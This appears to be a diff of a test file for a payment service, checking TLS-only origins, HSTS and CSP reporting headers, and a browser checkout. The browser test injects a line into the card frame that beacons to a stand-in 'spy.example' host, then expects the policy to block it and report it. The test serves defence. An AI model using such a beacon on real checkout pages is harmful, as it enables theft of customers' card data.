@@ -1,6 +1,6 @@
 // Goal: with a certificate every origin speaks TLS 1.2 or 1.3 and nothing else, and a card is paid
-// over it. Method: a stack with a fresh certificate; raw TLS clients, the official library, a
-// browser.
+// over it; a browser reports what a policy of ours stopped, by the Reporting API, which needs TLS.
+// Method: a stack with a fresh certificate; raw TLS clients, the official library, a browser.
 import fs from 'node:fs';
 import http from 'node:http';
 import https from 'node:https';
@@ -8,9 +8,10 @@ import os from 'node:os';
 import path from 'node:path';
 import tls from 'node:tls';
 import Stripe from 'stripe';
-import { launchChromium, makeCertificate, startStack } from '@coffer/testkit';
+import { launchWholeChromium, makeCertificate, startStack } from '@coffer/testkit';
 import { afterAll, expect, test } from 'vitest';
 import { cardFrame, typeCard } from './merchant.ts';
+import { policyReports } from './policy-reports.ts';
 
 const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'coffer-tls-stack-'));
 const certificate = await makeCertificate({ names: ['localhost', '127.0.0.1'] });
@@ -70,15 +71,25 @@ test.each(names)('%s does not answer in clear', async (name) => {
   expect(answer).toBe('no answer');
 });
 
-test.each(['api', 'vault'] as const)('%s tells browsers to stay on TLS', async (name) => {
-  const header = await new Promise<unknown>((resolve, reject) => {
-    const request = https.get(`${stack[name]}/v1/account`, { ca: certificate.cert }, (response) => {
-      response.resume();
-      resolve(response.headers['strict-transport-security']);
-    });
-    request.once('error', reject);
+function answerTo(url: string): Promise<http.IncomingMessage> {
+  return new Promise((resolve, reject) => {
+    https
+      .get(url, { ca: certificate.cert }, (response) => resolve(response.resume()))
+      .once('error', reject);
   });
-  expect(header).toBe('max-age=63072000; includeSubDomains');
+}
+
+test.each(['api', 'vault'] as const)('%s tells browsers to stay on TLS', async (name) => {
+  const { headers } = await answerTo(`${stack[name]}/v1/account`);
+  expect(headers['strict-transport-security']).toBe('max-age=63072000; includeSubDomains');
+});
+
+test('a page of ours names the collector of reports in both ways', async () => {
+  const { headers } = await answerTo(`${stack.vault}/fields/card`);
+  const collector = `${stack.checkout}/reports`;
+  expect(headers['reporting-endpoints']).toBe(`coffer="${collector}"`);
+  expect(headers['content-security-policy']).toContain(`report-uri ${collector}; report-to coffer`);
+  expect(headers['cross-origin-embedder-policy']).toBe('require-corp; report-to="coffer"');
 });
 
 test('the official library pays over TLS', async () => {
@@ -97,14 +108,27 @@ test('the official library pays over TLS', async () => {
   expect(intent.status).toBe('succeeded');
 });
 
-test('the shop is paid in a browser over TLS', async () => {
-  const browser = await launchChromium();
-  const page = await browser.newPage({ ignoreHTTPSErrors: true });
+test('the shop is paid in a browser over TLS, which reports what a policy of ours stopped', async () => {
+  // Reports go to good certificates alone, and by themselves a minute later; the shell sends none.
+  const browser = await launchWholeChromium([
+    '--ignore-certificate-errors',
+    '--short-reporting-delay',
+  ]);
+  const page = await browser.newPage();
   await page.goto(stack.shop);
   await page.locator('form[data-ready="true"]').waitFor();
+  const fields = page.frames().find((frame) => frame.url().endsWith('/fields/payment'));
+  // As an extension would that was let into the frame.
+  await fields?.evaluate(`void (new Image().src = 'https://spy.example:8443/seen?card=1#x')`);
   await page.fill('input[name=email]', 'jenny@example.com');
   await typeCard(cardFrame(page, '#payment'), { number: '4242424242424242' });
   await page.click('#submit');
   await page.waitForURL(/\/receipt/);
+  const report = {
+    ...{ directive: 'img-src', blocked: 'https://spy.example:8443' },
+    // The shop pins a version, which looks like an id.
+    ...{ page: '/sdk/:id/fields/payment', count: 1 },
+  };
+  await expect.poll(() => policyReports(stack)).toEqual([report]);
   await browser.close();
 });
